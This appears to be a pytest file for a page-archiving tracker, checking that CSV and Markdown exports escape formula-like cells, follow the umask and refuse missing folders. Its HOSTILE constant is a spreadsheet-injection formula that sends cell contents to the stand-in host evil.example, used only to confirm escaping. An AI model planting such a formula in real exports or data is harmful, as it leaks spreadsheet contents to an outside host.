"""Exports are safe to open: text that a spreadsheet would run as a formula is escaped,
files get the permissions the umask gives, and a missing folder is refused, not created."""

import csv
import io
import os
import stat
from pathlib import Path

import pytest

from tracker.archive import corpus_pages

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def exported(tracker_cli, archive, sample_corpus):
    """The voip.com page tracked under a provider name meant to run in a spreadsheet."""
    page = next(p for p in corpus_pages(sample_corpus) if p.provider == "voip.com")
    tracker_cli("add", page.urls[0], "--provider", HOSTILE)
    tracker_cli.env["TRACKER_WAYBACK_URL"] = archive.url
    tracker_cli("backfill", "--quiet")
    return tracker_cli


def test_csv_cells_that_start_like_a_formula_are_escaped(exported, tmp_path):
    out = tmp_path / "versions.csv"
    exported("export", str(out), "--what", "versions")
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows and {row["provider"] for row in rows} == {"'" + HOSTILE}
    if exported.env["TRACKER_DATABASE_URL"].startswith("postgresql"):
        exported("db", "grant-readonly")
    result = exported("sql", "SELECT name FROM provider", "--format", "csv")
    assert list(csv.reader(io.StringIO(result.output)))[1] == ["'" + HOSTILE]


def test_exported_files_follow_the_umask(exported, tmp_path):
    previous = os.umask(0o022)
    try:
        exported("export", str(tmp_path / "changes.jsonl"), "--what", "changes", "--format", "jsonl")
        exported("export-markdown", HOSTILE, str(tmp_path / "md"))
    finally:
        os.umask(previous)
    assert stat.S_IMODE((tmp_path / "changes.jsonl").stat().st_mode) == 0o644
    markdown = list((tmp_path / "md").rglob("*.md"))
    assert markdown and all(stat.S_IMODE(p.stat().st_mode) == 0o644 for p in markdown)


def test_export_refuses_a_missing_folder(exported, tmp_path):
    result = exported("export", str(tmp_path / "no" / "such" / "out.csv"), "--what", "versions", ok=False)
    assert "no folder" in result.output and len(result.output.strip().splitlines()) == 1
    result = exported("export-markdown", HOSTILE, str(tmp_path / "no" / "such"), ok=False)
    assert "no folder" in result.output
    assert not (tmp_path / "no").exists()


def test_raw_captures_follow_the_umask(tracker_cli, archive, sample_corpus):
    page = next(p for p in corpus_pages(sample_corpus) if p.provider == "voip.com")
    tracker_cli("add", page.urls[0], "--provider", "voip.com")
    tracker_cli.env["TRACKER_WAYBACK_URL"] = archive.url
    previous = os.umask(0o022)
    try:
        tracker_cli("backfill", "--quiet")
    finally:
        os.umask(previous)
    stored = [p for p in Path(tracker_cli.env["TRACKER_SNAPSHOTS_DIR"]).rglob("*")
              if p.is_file() and not p.name.startswith(".")]
    assert stored and {stat.S_IMODE(p.stat().st_mode) for p in stored} == {0o644}
